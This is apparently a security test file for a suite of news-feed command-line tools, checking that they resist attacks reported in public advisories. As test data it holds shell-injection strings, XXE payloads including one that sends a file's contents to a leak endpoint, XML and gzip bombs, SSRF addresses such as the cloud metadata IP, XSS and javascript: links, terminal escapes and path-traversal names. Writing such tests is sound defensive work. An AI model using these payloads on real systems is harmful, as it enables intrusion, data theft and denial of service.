"""Inputs that made other programs do harm, through the real tools; news-security(7) names each with its test.

Nothing here holds anybody's code: the inputs are made after what the advisories say.
"""

import gzip, json, os, pathlib, re, shutil, subprocess, time, zlib
from harness import Skip, TOOLS, expect, finish
from promises.common import article, channel, line, peak, test
from service import Answer, Scripted, Service, feed, page, rows
from tracing import traced

SHELL = ["|touch pwned", "; touch pwned;", "$(touch pwned)", "`touch pwned`", "'; touch pwned; '", '"; touch pwned; "', "exec:touch pwned", "filter:touch pwned:http://h/f", "query:x:x", "&& touch pwned", "\ntouch pwned\n", "-o pwned", "--output=pwned"]


def xml(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("\n", "&#10;")


def only_text(result):
    """The decoded output, which must hold no control character but the line ends."""
    text = result.out.decode()
    expect(not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), "a control character: %r" % text[:200])
    return text


# Commands in data: newsbeuter CVE-2017-12904 and CVE-2017-14500, newsboat's OPML import, Liferea CVE-2023-1350, neix.


@test("security: no tool starts a program, whatever it reads")
def _(here):
    hostile = {"T%d" % n: [{"docid": text, "title": text, "url": text, "imgsrc": text, "source": text, "digest": text}] for n, text in enumerate(SHELL)}
    items = "".join('<item><title>%s</title><link>%s</link><guid>%s</guid><enclosure url="%s" type="audio/%s"/></item>' % ((xml(text),) * 5) for text in SHELL)

    def answer(request):
        if request.page:
            return page(request.page[0], hostile.get(request.page[0], []))
        return ("<rss version='2.0'><channel>%s</channel></rss>" % items).encode()

    outlines = "".join('<outline text="%s" title="%s" xmlUrl="%s" htmlUrl="%s"/>' % ((xml(text),) * 4) for text in SHELL)
    (here.tmp / "list.opml").write_text('<opml version="2.0"><body>%s</body></opml>' % outlines)
    with Service(answer) as service:
        (here.tmp / "subs").write_bytes(b"".join(line({"tid": text, "tname": text}) for text in SHELL))
        records = b"".join(article(n, tid=text, title=text, url=text, imgsrc=text) for n, text in enumerate(SHELL))
        runs = [
            ("news-channels", ["list.opml"], b""), ("news-channels", ["--opml", "list.opml"], b""), ("news-channels", ["--retries=0", *SHELL[:6]], b""),
            ("news-fetch", ["--no-cache", "--retries=0", "--images=pictures", "--body", "--base-url=" + service.base, *["T%d" % n for n in range(len(SHELL))]], b""),
            ("news-fetch", ["--no-cache", "--retries=0", "--images=pictures", service.base + "/feed"], b""),
            ("news-fetch", ["--no-cache", "--retries=0"], b"\n".join(s.encode() for s in SHELL)),
            ("news-subs", ["-f", "subs", "apply", "--keep-going"], b"".join(line({"op": "toggle", "tid": text}) + line({"op": "rename", "tid": text, "name": text}) for text in SHELL)),
            *[("news-render", ["-f", f], records) for f in ("columns", "tsv", "sfeed", "cards", "html")],
        ]
        for tool, args, stdin in runs:
            result = traced(here, tool, "-e", "trace=%process", args=args, stdin=stdin)
            expect(result.status in (0, 1, 3), "%s %s: %s" % (tool, args, result))
            started = re.findall(r"^(?:\d+ +)?((?:execve|execveat|fork|vfork)\(.*)", (here.tmp / "trace").read_text(), re.M)
            expect(len(started) == 1, "%s started %s" % (tool, started[1:]))
        expect(not list(here.tmp.rglob("*pwned*")), "a command was run, or a file was named by data")


@test("security: no program holds a call that starts another", over=TOOLS)
def _(here, tool):
    reader = shutil.which("nm") or shutil.which("llvm-nm")
    if not reader:
        raise Skip("no nm")
    wanted = subprocess.run([reader, "-D", "--undefined-only", here.tool(tool)], capture_output=True, text=True).stdout
    names = {word.split("@")[0] for word in wanted.split()}
    expect(len(names) > 20, "nm says nothing: %r" % wanted[:100])
    starters = {"system", "popen", "execl", "execle", "execlp", "execv", "execve", "execvp", "execvpe", "posix_spawn", "posix_spawnp", "fork", "vfork", "wordexp", "dlopen"}
    # Ordinary Swift brings its library, which can load others, and call a program when one of ours has crashed.
    found = names & (starters - {"dlopen", "execvpe"} if here.bin.name == "bin-ordinary" else starters)
    expect(not found, sorted(found))


@test("security: a list of channels is data: commands in OPML stay text, and are not fetched")
def _(here):
    outlines = "".join('<outline text="%d" xmlUrl="%s"/>' % (n, xml(text)) for n, text in enumerate(SHELL))
    (here.tmp / "list.opml").write_text('<opml version="1.0"><body>%s</body></opml>' % outlines)
    listed = here.run("news-channels", "list.opml")
    expect((listed.status, listed.out) == (3, b"") and "outline 1: xmlUrl is no http" in listed.messages[0], listed)
    # The same as names and as channels: text that passes, and that news-fetch does not take for more.
    (here.tmp / "names.opml").write_text('<opml version="1.0"><body>%s</body></opml>' % outlines.replace("xmlUrl", "note"))
    records = here.run("news-channels", "names.opml").out + b"".join(line({"tid": text, "tname": text}) for text in SHELL)
    passed = here.run("news-channels", "-", stdin=records)
    expect((passed.status, len(passed.lines)) == (0, 2 * len(SHELL)), passed)
    fetched = here.run("news-fetch", "--no-cache", "--errors=json", "--images=pictures", stdin=passed.out)
    expect((fetched.status, fetched.out, len(fetched.messages)) == (3, b"", 2 * len(SHELL)), fetched)
    expect({json.loads(m)["error"] for m in fetched.messages} == {"not-fetchable"}, fetched.err)
    expect(not list(here.tmp.rglob("*pwned*")), "a command was run")


# XML: outside entities, bombs, attributes without end.


def secret(here):
    (here.tmp / "secret").write_text("TOP SECRET")
    return here.tmp / "secret"


@test("security: outside entities are not opened: XXE in feeds and lists, by file, URL and parameter entity")
def _(here):
    path = secret(here)
    with Service(lambda r: b"TOP SECRET" if "leak" in r.path else answer(r)) as service:
        leak = service.base + "/leak"
        doctypes = [
            '<!DOCTYPE r [<!ENTITY x SYSTEM "file://%s">]>' % path, '<!DOCTYPE r [<!ENTITY x SYSTEM "%s">]>' % path, '<!DOCTYPE r [<!ENTITY x PUBLIC "p" "%s">]>' % leak,
            '<!DOCTYPE r SYSTEM "%s">' % leak, '<!DOCTYPE r SYSTEM "file://%s" [<!ENTITY x SYSTEM "%s">]>' % (path, leak),
            '<!DOCTYPE r [<!ENTITY %% p SYSTEM "%s"> %%p; <!ENTITY x "&#37;p;">]>' % leak, '<!DOCTYPE r [<!ENTITY %% a SYSTEM "file://%s"><!ENTITY %% b "<!ENTITY x SYSTEM \'%s?%%a;\'>">%%b;]>' % (path, leak),
        ]

        def made(n):
            include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://%s" parse="text"/>' % path
            return '<?xml version="1.0"?><?xml-stylesheet href="%s"?>%s<rss version="2.0"><channel><title>&x;</title><item><title>t &x; %s</title><guid>%d</guid></item></channel></rss>' % (leak, doctypes[n], include, n)

        answer = lambda r: made(int(r.path[1:])).encode()
        for n in range(len(doctypes)):
            (here.tmp / "list").write_text(made(n).replace("<rss version=\"2.0\">", "<opml>").replace("</rss>", "</opml>").replace("channel", "body").replace("<item>", '<outline text="&x;" xmlUrl="http://h/&x;"/><item>'))
            for tool, args in (("news-fetch", ["--no-cache", "%s/%d" % (service.base, n)]), ("news-channels", ["list"]), ("news-fetch", ["file://%s/list" % here.tmp])):
                result = traced(here, tool, "-e", "trace=openat,open", args=args)
                expect(result.status in (0, 1, 3) and b"SECRET" not in result.out + result.err, result)
                expect("/secret" not in (here.tmp / "trace").read_text(), "%s opened it" % tool)
        expect(not any("leak" in p for p in service.paths), "asked for %s" % service.paths)


def bombs():
    laughs = '<!DOCTYPE r [<!ENTITY a0 "ha">%s]>' % "".join('<!ENTITY a%d "%s">' % (n, "&a%d;" % (n - 1) * 10) for n in range(1, 12))
    long = '<!DOCTYPE r [<!ENTITY q "%s">]>' % ("q" * 100000)
    nested = "<x>" * 100000
    return {
        "a billion laughs": (laughs, "&a11;"), "one long entity often": (long, "&q;" * 20000), "an entity in itself": ('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;" * 1000),
        "a hundred thousand attributes": ("", "<x %s/>" % " ".join('a%d="v"' % n for n in range(100000))), "the same attribute": ("", "<x %s/>" % ('a="v" ' * 100000)),
        "namespaces": ("", "".join('<x xmlns:n%d="u%d"><n%d:y/>' % (n, n, n) for n in range(20000))), "many namespaces of one": ("", "<x %s/>" % " ".join('xmlns:n%d="u"' % n for n in range(50000))),
        "depth": ("", nested), "a comment without end": ("", "<!-- " + "- " * 500000), "CDATA in pieces": ("", "<![CDATA[x]]>" * 100000), "a tag without end": ("", "<x " + "y" * 1000000),
        "declarations": ("<!DOCTYPE r [%s]>" % "".join('<!ENTITY e%d "v">' % n for n in range(50000)), "&e9;"), "references": ("", "&#x41;&lt;&nosuch;" * 60000), "parameter entities": ('<!DOCTYPE r [<!ENTITY % a "%a;%a;"> %a;]>', "x"),
    }


@test("security: an XML bomb costs neither memory nor time, and what follows is read", over=list(bombs()), alone=True)
def _(here, name):
    doctype, body = bombs()[name]
    data = ('<?xml version="1.0"?>%s<rss version="2.0"><channel><title>c</title><item><title>%s</title><guid>1</guid></item>' % (doctype, body)
            + "<item><title>after</title><guid>2</guid></item></channel></rss>").encode()
    (here.tmp / "feed").write_bytes(data)
    (here.tmp / "list").write_bytes(('<opml>%s<body><outline text="%s"/>' % ("", "x")).encode() + data + b"</body></opml>")
    for tool, args in (("news-fetch", ["file://%s/feed" % here.tmp]), ("news-channels", ["list"])):
        process = here.start(tool, *args, stdin=subprocess.PIPE, stdout=open(here.tmp / "out", "wb"))
        used, began = 0, time.process_time() + sum(os.times()[2:4])
        while process.poll() is None:
            try:
                used = max(used, peak(process))
            except TypeError:
                break
            time.sleep(0.01)
        result = finish(process)
        took = time.process_time() + sum(os.times()[2:4]) - began
        expect(result.status in (0, 1, 3), "%s: status %d, %r" % (tool, result.status, result.err[:200]))
        expect(used < 40 << 10, "%s: %d KiB for %d" % (tool, used, len(data) >> 10))
        expect((here.tmp / "out").stat().st_size < 8 << 20, "%s: wrote %d bytes" % (tool, (here.tmp / "out").stat().st_size))
        expect(took < 10, "%s: %.1f s of the processor" % (tool, took))


@test("security: a document type and a thousand harmless entities break no feed")
def _(here):
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    items = "".join("<item><title>a &amp; b &eacute; %d</title><guid>%d</guid></item>" % (n, n) for n in range(3000))
    (here.tmp / "feed").write_text('<?xml version="1.0"?>%s<rss version="0.91"><channel>%s</channel></rss>' % (doctype, items))
    result = here.run("news-fetch", "file://%s/feed" % here.tmp)
    expect((result.status, len(result.lines), result.err) == (0, 3000, b""), "%d records, %r" % (len(result.lines), result.err[:300]))
    expect(json.loads(result.lines[-1])["title"] == "a & b é 2999", result.lines[-1])


# Compression: curl CVE-2022-32206 and CVE-2023-23916, and limits that counted what came over the wire.


@test("security: compression bombs, also in layers without end, are cut off where the limit says", alone=True)
def _(here):
    once = gzip.compress(bytes(64 << 20))
    layers = feed(2)
    for _ in range(50):
        layers = gzip.compress(layers)
    bodies = {
        "gzip": (once, "gzip"), "gzip twice": (gzip.compress(once), "gzip, gzip"), "deflate": (zlib.compress(bytes(64 << 20)), "deflate"),
        "fifty layers": (layers, ", ".join(["gzip"] * 50)), "a thousand names": (feed(2), ", ".join(["gzip"] * 1000)), "many headers": (feed(2), None),
    }
    for name, (body, encoding) in bodies.items():
        headers = [("Content-Encoding", encoding)] if encoding else [("Content-Encoding", "gzip")] * 200
        with Service(lambda r: Answer(body, headers=headers)) as service:
            process = here.start("news-fetch", "--no-cache", "--retries=0", "--max-bytes=1M", service.base + "/feed")
            used = 0
            while process.poll() is None:
                try:
                    used = max(used, peak(process))
                except TypeError:
                    break
                time.sleep(0.01)
            result = finish(process)
            expect(result.status == 3 and len(result.messages) == 1 and result.out == b"", "%s: %s" % (name, result))
            expect(used < 40 << 10, "%s: %d KiB" % (name, used))


# Where a request may lead: other schemes, private addresses.


@test("security: --deny-private refuses every spelling of a private address, and redirects there")
def _(here):
    with Service(lambda r: Answer(status=302, headers=[("Location", "http://169.254.169.254/latest/meta-data/")]) if r.path == "/away" else feed(1)) as service:
        port = service.server_port
        names = [
            "127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "0.0.0.0", "localhost", "localhost.", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]",
            "127.0.0.1.", "%31%32%37.0.0.1", "１２７.0.0.1", "127。0。0。1",
        ]
        for name in names:
            url = "http://%s:%d/feed" % (name, port)
            result = here.run("news-fetch", "--no-cache", "--retries=0", "--connect-timeout=2", "--deny-private", url)
            expect((result.status, result.out, len(result.messages)) == (3, b"", 1), "%s: %s" % (name, result))
        for host in ("10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "[fe80::1]", "[fc00::1]", "224.0.0.1"):
            result = here.run("news-fetch", "--no-cache", "--retries=0", "--connect-timeout=2", "--deny-private", "--errors=json", "http://%s/" % host)
            expect(result.status == 3 and json.loads(result.err)["error"] == "private", "%s: %s" % (host, result))
        expect(service.requests == [], "asked all the same: %s" % service.paths)


@test("security: a tid from a list never opens a file, nor any scheme but http and https")
def _(here):
    path = secret(here)
    tids = ["file://%s" % path, "FILE://%s" % path, str(path), "../secret", "file:%s" % path, "ftp://127.0.0.1/x", "gopher://127.0.0.1:1/x", "dict://127.0.0.1:1/x", "data:text/xml,<rss/>", "javascript:x", "view-source:http://h/", "local:../../x", "netdoc://x", " file://%s" % path, "http://"]
    for form in (lambda t: line({"tid": t}), lambda t: json.dumps(t).encode() + b"\n", lambda t: t.encode() + b"\n"):
        result = traced(here, "news-fetch", "-e", "trace=openat,open,connect", args=["--no-cache", "--retries=0", "--errors=json", "--base-url=http://127.0.0.1:1"], stdin=b"".join(map(form, tids)))
        expect(result.status == 3 and b"SECRET" not in result.out + result.err, result)
        trace = (here.tmp / "trace").read_text()
        expect("secret" not in trace and not re.search(r"sin_port=htons\((?!1\))", trace), "opened or asked: %s" % re.findall(".*secret.*|.*htons.*", trace)[:3])


# Links, pages, terminals: miniflux CVE-2023-27592 and CVE-2025-31483, dokuwiki CVE-2017-12980, OSC 8 and 52.

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "file:///etc/passwd", "blob:http://h/x", "//evil.example/x", "http:javascript:alert(1)", "http://h/\"onmouseover=alert(1) x=\"", "http://h/'><script>alert(1)</script>", "http://h/\x1b]8;;http://evil/\x07", "http://h/\u009d52;c;x\u009c", "https://h/\u202egpj.exe",
    "http://h\\@evil.example/", "http://user:secret@h/", "about:blank", "feed:javascript:alert(1)",
]


@test("security: a link is http or https or none, from the answer to the page and the terminal")
def _(here):
    made = page("T1", [{"docid": "d%d" % n, "title": "t", "url": text, "imgsrc": text} for n, text in enumerate(SCHEMES)])
    items = "".join('<item><title>t</title><guid isPermaLink="true">%s</guid><link>%s</link><enclosure url="%s" type="image/png"/><description>&lt;img src="%s"&gt;</description></item>' % ((re.sub("[\x00-\x08\x1b]", "", xml(text)),) * 4) for text in SCHEMES)

    with Service(lambda r: made if r.page else ("<rss version='2.0'><channel>%s</channel></rss>" % items).encode()) as service:
        fetched = here.run("news-fetch", "--no-cache", "--retries=0", "--base-url=" + service.base, "T1", service.base + "/feed")
    expect(len(fetched.lines) >= len(SCHEMES), fetched.err)
    for text in fetched.lines:
        record = json.loads(text)
        expect(record["url"] is None or re.match(r"https?://[^\x00-\x1f\x7f-\x9f]+$", record["url"], re.I), "url: %r" % record["url"])
    raw = b"".join(article(n, url=text, imgsrc=text, imgfile=text) + channel(n, url=text, icon=text) for n, text in enumerate(SCHEMES))
    for data in (fetched.out, raw):
        html = here.run("news-render", "-f", "html", stdin=data).out.decode()
        for name, value in re.findall(r'\s(href|src)="([^"]*)"', html):
            expect(re.match(r"https?://|#|[\w./%-]+$", value) and not value.startswith("//"), "%s=%r" % (name, value))
        expect("<script" not in html and not re.search(r"<[^>]*\son\w+=", html), "a script in the page")
        for args in (["--links=always"], ["-f", "cards", "--links=always"], ["-g", "--links=always"]):
            shown = here.run("news-render", *args, "--color=never", stdin=data).out.decode()
            for target in re.findall("\x1b\\]8;;([^\x1b]*)\x1b\\\\", shown):
                expect(target == "" or re.match(r"https?://[!-~]+$", target, re.I), "a link to %r" % target)
            rest = re.sub("\x1b\\]8;;[!-~]*\x1b\\\\", "", shown)
            expect(not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", rest), "%s: a control character" % args)


# Names of files: podgrab, podcast-archiver.


@test("security: a file is never named by data: pictures, caches, states")
def _(here):
    names = ["../../evil.png", "..%2f..%2fevil.png", "/etc/evil.png", "a/../../evil.png", "evil.png%00.jpg", "con.png", "-rf.png", "~/evil.png", "$(x).png", "evil.png?../../x"]

    def answer(request):
        if request.page:
            return page("T1", [{"docid": "../" + n, "title": "../../evil", "imgsrc": "http://%s/p/%s" % (request.headers["host"], n)} for n in names])
        return Answer(b"\x89PNG\r\n\x1a\n" + request.path.encode() + bytes(40), headers=[("Content-Disposition", 'attachment; filename="../../evil.png"'), ("Content-Type", "image/../../evil")])

    with Service(answer) as service:
        result = here.run("news-fetch", "--retries=0", "--new", "--base-url=" + service.base, "--images=folder/pictures", "T1", "-n20")
        expect(result.status in (0, 1) and len(result.lines) == len(names), result)
    found = sorted(str(p.relative_to(here.tmp)) for p in here.tmp.rglob("*") if p.is_file())
    expect(not [p for p in found if "evil" in p], found)
    for name in found:
        expect(re.fullmatch(r"folder/pictures/[0-9a-f]{32,64}\.png|\.cache/news/http\.db(-journal)?|\.local/state/news/seen\.db(\.lock)?", name), name)


# JSON: jq CVE-2023-50246, -50268, 2024-23337, -53427, 2025-48060, -49014, and those of 2026.

DEEP = 200000
JSON_BAD = {
    "NaN": b"NaN", "a NaN with a payload": b"NaN" + b"1" * 700, "-NaN": b"-NaN", "nan": b"nan123", "Infinity": b"-Infinity", "NUL behind a value": b"1\0", "NUL in a string": b'"a\0b"', "NUL and more": b'{}\0{"tid":"x"}',
    "arrays without end": b"[" * DEEP, "objects without end": b'{"a":' * DEEP, "an array too deep": b"[" * DEEP + b"]" * DEEP, "half an escape": b'"\\u12', "a half of a surrogate": b'"\\ud800\\u"', "a string without end": b'"' + b"\\" * 100001,
    "a number without end": b"1e", "a minus": b"-" * 100000, "commas": b"[" + b"," * 100000 + b"]", "octal": b"0777", "hex": b"0x7f", "a comment": b"1/**/", "an invalid escape": b'"\\x41"', "overlong NUL": b'"\xc0\x80"',
}
JSON_GOOD = {
    "a long number": b"9" * 100000, "a long fraction": b"0." + b"1" * 100000 + b"e-99999", "a large exponent": b"1e" + b"9" * 10000, "2^31 and 2^63": b"[2147483648,9223372036854775808,-9223372036854775809,4294967296]",
    "keys without number": b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(200000)) + b"}", "one key again and again": b"{" + b",".join([b'"k":1'] * 200000) + b"}", "empty keys": b'{"":{"":""}}', "escaped NUL": b'"a\\u0000b"', "strings": b"[" + b",".join([b'""'] * 500000) + b"]", "depth": b"[" * 500 + b"]" * 500,
    "a date beyond all": b'"99999999999-01-01T00:00:00Z"', "formats": b'"%s%n%x%1000000d"',
}


def through(here, tool, record):
    if tool == "news-subs":
        (here.tmp / "subs").write_bytes(record)
        return here.run(tool, "-f", "subs", "list", "all")
    if tool == "news-fetch":
        return here.run(tool, "--mark-seen", "--state=seen.db", stdin=record)
    return here.run(tool, *(["-"] if tool == "news-channels" else ["-f", "tsv"]), stdin=record)


@test("security: JSON that broke other readers is refused in one line", over=TOOLS)
def _(here, tool):
    for name, value in JSON_BAD.items():
        result = through(here, tool, b'{"tid":"t","docid":"d","published":%s}\n' % value)
        expect((result.status, result.out, len(result.messages)) == (3, b"", 1), "%s: status %d, %r" % (name, result.status, result.err[:200]))
        expect(len(result.err) < 200, "%s: a long message" % name)


@test("security: JSON that is large, deep or odd, and right, passes", over=TOOLS)
def _(here, tool):
    for name, value in JSON_GOOD.items():
        record = b'{"tid":"t","docid":"d","published":%s}\n' % value
        result = through(here, tool, record)
        expect((result.status, result.err) == (0, b""), "%s: status %d, %r" % (name, result.status, result.err[:200]))
        if tool in ("news-channels", "news-subs"):
            expect(result.out == record, "%s: did not pass as it was" % name)
        elif tool == "news-render":
            only_text_but_tabs(result, name)


def only_text_but_tabs(result, name):
    expect(not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.out.decode()), "%s: a control character" % name)


@test("security: many keys and many channels take time in proportion, however they are named", alone=True)
def _(here):
    def took(tool, args, data):
        began = sum(os.times()[2:4])
        result = here.run(tool, *args, stdin=data)
        expect(result.status == 0, result.err[:200])
        return sum(os.times()[2:4]) - began

    # Names that collide under the usual unseeded functions: permuted words, zeros, one suffix.
    named = lambda n: ["%020d" % n, "Aa" * (n % 8) + "BB" * (8 - n % 8) + str(n), "\\u0000" * (n % 50) + str(n)][n % 3].encode()
    lists = lambda count: b"".join(b'{"tid":"%s"}\n' % named(n) for n in range(count))
    keys = lambda count: b'{"tid":"t",%s}\n' % b",".join(b'"%s":1' % named(n) for n in range(count))
    for tool, args, made in (("news-channels", ["-"], lists), ("news-channels", ["-"], keys), ("news-render", ["-f", "tsv", "--fields=tid,nosuch"], keys)):
        few, lots = min(took(tool, args, made(20000)) for _ in range(2)), took(tool, args, made(200000))
        expect(lots < 30 * few + 1, "%s: %.2f s for 20,000, %.2f s for 200,000" % (tool, few, lots))
